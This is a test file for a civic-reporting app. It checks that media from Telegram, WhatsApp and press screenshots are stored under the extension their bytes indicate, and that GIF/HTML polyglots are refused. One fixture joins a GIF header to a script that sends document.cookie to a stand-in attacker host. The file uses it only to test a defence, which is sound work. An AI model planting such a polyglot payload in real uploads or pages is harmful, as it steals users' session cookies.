// test-app first: it loads the entities in the order their circular references need
import { startTestApp, TestApp } from '../support/test-app';
import { FakePlatforms } from '../support/fake-platforms';
import { signed, TELEGRAM_SECRET, telegramUpdate, whatsappDelivery, socialPlatformEnv } from '../support/social-payloads';
import { settleSocialQueue } from '../support/settle-social-queue';

const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
/** a valid GIF header followed by HTML: an image to the magic bytes, a page to a browser */
const GIF_HTML = Buffer.concat([GIF, Buffer.from('<html><body><script>fetch("//evil.example/?c="+document.cookie)</script></body></html>')]);
const ACTIVE = 'el archivo contiene código o marcado activo';

/**
 * Files from the platforms get what staff uploads get: the name's extension is the one the bytes
 * say (a GIF the citizen named `foto.html` is stored as `foto.gif`), and polyglots are refused
 * (recorded as omitted, the message kept). Press screenshots too.
 */
describe('platform media and press screenshots: stored extension and polyglots', () => {
  let t: TestApp;
  let fake: FakePlatforms;

  beforeAll(async () => {
    fake = await new FakePlatforms().start();
    t = await startTestApp(socialPlatformEnv(fake));
  });
  afterAll(async () => {
    await t?.close();
    await fake?.stop();
  });

  const postTelegram = (body: unknown) =>
    t.http().post('/api/v1/webhooks/telegram').set('Content-Type', 'application/json').set('X-Telegram-Bot-Api-Secret-Token', TELEGRAM_SECRET).send(JSON.stringify(body));
  const postMeta = (body: unknown) => {
    const s = signed(body);
    return t.http().post('/api/v1/webhooks/meta').set('Content-Type', 'application/json').set('X-Hub-Signature-256', s.signature).send(s.raw);
  };
  /** the attachments of the message stored under that external id (Telegram: `<chat id>:<message_id>`) */
  const attachmentsOf = async (channel: string, externalId: string) => {
    await settleSocialQueue(t);
    const [m] = await t.db.query(`SELECT id, body_text FROM messages WHERE channel = $1 AND external_id = $2`, [channel, externalId]);
    expect(m).toBeDefined();
    const atts = await t.db.query(
      `SELECT filename, content_type, omitted, omitted_reason, content IS NOT NULL AS stored FROM attachments WHERE message_id = $1 ORDER BY id`,
      [m.id],
    );
    return { text: m.body_text as string, atts };
  };

  it("a Telegram document keeps the sender's name but the extension its bytes say", async () => {
    fake.files.set('tg-gif', { bytes: GIF, mime: 'text/html' });
    fake.files.set('tg-noext', { bytes: GIF, mime: 'image/gif' });
    fake.files.set('tg-dots', { bytes: GIF, mime: 'image/gif' });
    await postTelegram(telegramUpdate(800100, { message_id: 1, caption: 'Foto del bache', document: { file_id: 'tg-gif', file_name: 'foto.html', mime_type: 'text/html' } }, 9_100_001)).expect(200);
    await postTelegram(telegramUpdate(800101, { message_id: 1, caption: 'Otra', document: { file_id: 'tg-noext', file_name: 'foto', mime_type: 'image/gif' } }, 9_100_002)).expect(200);
    await postTelegram(telegramUpdate(800102, { message_id: 1, caption: 'Y otra', document: { file_id: 'tg-dots', file_name: '.htm', mime_type: 'image/gif' } }, 9_100_003)).expect(200);
    expect((await attachmentsOf('telegram', '800100:1')).atts).toEqual([
      { filename: 'foto.gif', content_type: 'image/gif', omitted: false, omitted_reason: null, stored: true },
    ]);
    expect((await attachmentsOf('telegram', '800101:1')).atts).toEqual([
      { filename: 'foto.gif', content_type: 'image/gif', omitted: false, omitted_reason: null, stored: true },
    ]);
    expect((await attachmentsOf('telegram', '800102:1')).atts).toEqual([
      { filename: 'documento-1.gif', content_type: 'image/gif', omitted: false, omitted_reason: null, stored: true },
    ]);
  });

  it('a GIF carrying HTML from Telegram or WhatsApp is omitted, the message kept', async () => {
    fake.files.set('tg-polyglot', { bytes: GIF_HTML, mime: 'image/gif' });
    await postTelegram(telegramUpdate(800103, { message_id: 1, caption: 'Mire', document: { file_id: 'tg-polyglot', file_name: 'foto.html', mime_type: 'image/gif' } }, 9_100_004)).expect(200);
    const tg = await attachmentsOf('telegram', '800103:1');
    expect(tg.text).toBe('Mire');
    expect(tg.atts).toEqual([expect.objectContaining({ omitted: true, omitted_reason: ACTIVE, stored: false })]);

    fake.files.set('MEDIA-POLYGLOT', { bytes: GIF_HTML, mime: 'image/gif' });
    await postMeta(
      whatsappDelivery('5214440000100', 'Iván', { type: 'document', document: { id: 'MEDIA-POLYGLOT', filename: 'foto.html', mime_type: 'image/gif', caption: 'Vea' } }, { wamid: 'wamid.POLY' }),
    ).expect(200);
    const wa = await attachmentsOf('whatsapp', 'wamid.POLY');
    expect(wa.atts).toEqual([expect.objectContaining({ omitted: true, omitted_reason: ACTIVE, stored: false })]);
  });

  it('a press screenshot that is a polyglot is refused', async () => {
    const press = await t.user('press');
    const res = await t
      .http()
      .post('/api/v1/intake/forwarded')
      .set(press.auth)
      .field('network', 'x')
      .field('authorName', 'Vecino')
      .field('text', 'Bache en la calle Zaragoza')
      .attach('screenshots', GIF_HTML, { filename: 'captura.gif', contentType: 'image/gif' })
      .expect(400);
    expect(JSON.stringify(res.body)).toContain(ACTIVE);
  });
});
